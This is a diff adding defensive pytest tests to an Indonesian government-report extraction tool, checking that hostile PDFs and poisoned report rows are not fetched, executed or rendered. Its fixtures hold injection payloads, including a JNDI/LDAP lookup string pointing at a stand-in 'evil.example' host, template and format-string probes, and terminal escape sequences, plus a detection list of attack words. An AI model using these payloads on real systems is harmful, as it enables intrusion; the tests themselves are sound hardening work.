@@ -8,6 +8,7 @@ import json
 import os
 import sqlite3
 import sys
+import tempfile
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from pathlib import Path
@@ -77,6 +78,48 @@ def test_broken_page_leaves_the_others(tmp_path: Path, database_path: Path) -> N
     with read_connection(database_path) as db:
         pages = db.execute("SELECT page, source, json_array_length(lines) FROM page_rows ORDER BY page").fetchall()
     assert pages == [(1, "none", 0), (2, "digital", 20)]
+
+
+def test_what_a_report_asks_for_is_not_done(
+    tmp_path: Path, database_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Its metadata, actions, scripts, links and attached files: neither followed nor stored nor written to disk."""
+
+    def connect(*_: object) -> None:
+        raise AssertionError("nothing may be fetched")
+
+    monkeypatch.setattr("socket.socket.connect", connect)
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "talking.pdf").write_bytes(hostile.talking())
+    outside = set(Path(tempfile.gettempdir()).iterdir())
+    summary = run([tmp_path / "in"], Settings(database_path, 0, ocr="never"))
+    assert summary.ended == {"empty": 1}
+    assert summary.pages == 1
+    with read_connection(database_path) as db:
+        stored = "\n".join(db.iterdump())
+        assert db.execute("SELECT json_array_length(lines) FROM page_rows").fetchall() == [(20,)]
+    for word in ("pwned", "evil.example", "<script>", "passwd", "JavaScript"):
+        assert f"{word}" not in stored.replace(str(tmp_path), ""), word
+    files = {path.relative_to(tmp_path) for path in tmp_path.rglob("*") if path.is_file()}
+    assert files == {Path("in/talking.pdf"), database_path.relative_to(tmp_path)}
+    assert not [one for one in set(Path(tempfile.gettempdir()).iterdir()) - outside if "pwned" in one.name]
+
+
+@pytest.mark.parametrize(
+    ("limit", "value", "name", "reason"),
+    [
+        pytest.param("extract.source.LARGEST_FILE", 1000, "bomb-of-text.pdf", "the file is larger than", id="bytes"),
+        pytest.param("extract.source.MOST_PAGES", 0, "broken-page.pdf", "the PDF has 2 pages, more than 0", id="pages"),
+    ],
+)
+def test_limits_of_a_document(
+    tmp_path: Path, database_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int, name: str, reason: str
+) -> None:
+    monkeypatch.setattr(limit, value)
+    (tmp_path / name).write_bytes(FILES[name])
+    summary = run([tmp_path / name], Settings(database_path, 0, ocr="never"))
+    assert summary.reasons["refused"][0][1].startswith(reason)
 
 
 # -- folders ----------------------------------------------------------------------------------------------------------
@@ -167,12 +210,15 @@ PAYLOADS = [
     'Jumlah "kutip", koma; titik',
     "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n",
 ]
+FOR_TERMINALS = "Jumlah \x1b[2J\x1b]0;pwned\x07 \x9b31m \u202eterbalik"
 
 
 @pytest.fixture
 def poisoned(lakip: Lakip, tmp_path: Path, database_path: Path) -> Path:
     """A database with a report whose indicators are attacks."""
-    rows = "".join(f"{n}\tMeningkatnya {text}\t{text}\t%\t80\t7{n}\t90,5\n" for n, text in enumerate(PAYLOADS, 1))
+    rows = "".join(
+        f"{n}\tMeningkatnya {text}\t{text}\t%\t80\t7{n}\t90,5\n" for n, text in enumerate((*PAYLOADS, FOR_TERMINALS), 1)
+    )
     head = "LAPORAN KINERJA\nDINAS SOSIAL KOTA BATU\nTAHUN 2024\n\nTabel 1 Pengukuran Kinerja Tahun 2024\n"
     table = "No.\tSasaran\tIndikator Kinerja\tSatuan\tTarget\tRealisasi\tCapaian (%)\n"
     path = tmp_path / "report.txt"
@@ -215,3 +261,24 @@ def test_payloads_in_a_comparison(lakip: Lakip, poisoned: Path) -> None:
     assert made.exit_code == 0
     rows = list(csv.reader(io.StringIO(made.stdout)))
     assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))]
+
+
+@pytest.mark.parametrize("command", ["check", "compare", "compare --weak-targets", "suggest"])
+def test_payloads_are_not_obeyed_by_a_terminal(lakip: Lakip, poisoned: Path, command: str) -> None:
+    made = lakip(*command.split(), "--db", poisoned)
+    assert made.stdout or made.stderr
+    assert all(line.isprintable() for line in (made.stdout + made.stderr).splitlines())
+
+
+def test_payloads_are_inert_in_a_workbook_of_everything(lakip: Lakip, poisoned: Path, tmp_path: Path) -> None:
+    made = lakip("export", "all", "-o", tmp_path / "all.xlsx", "--db", poisoned)
+    assert made.exit_code == 0, made.stderr
+    cells = [cell for sheet in load_workbook(tmp_path / "all.xlsx") for row in sheet.iter_rows() for cell in row]
+    assert len(cells) > 1000
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+
+
+def test_payloads_are_verbatim_in_parquet(lakip: Lakip, poisoned: Path, tmp_path: Path) -> None:
+    parquet = pytest.importorskip("pyarrow.parquet", reason="needs the extra lakip[parquet]")
+    assert lakip("export", "observations", "-o", tmp_path / "o.parquet", "--db", poisoned).exit_code == 0
+    assert set(parquet.read_table(tmp_path / "o.parquet")["indicator"].to_pylist()) >= {PAYLOADS[0], PAYLOADS[4]}
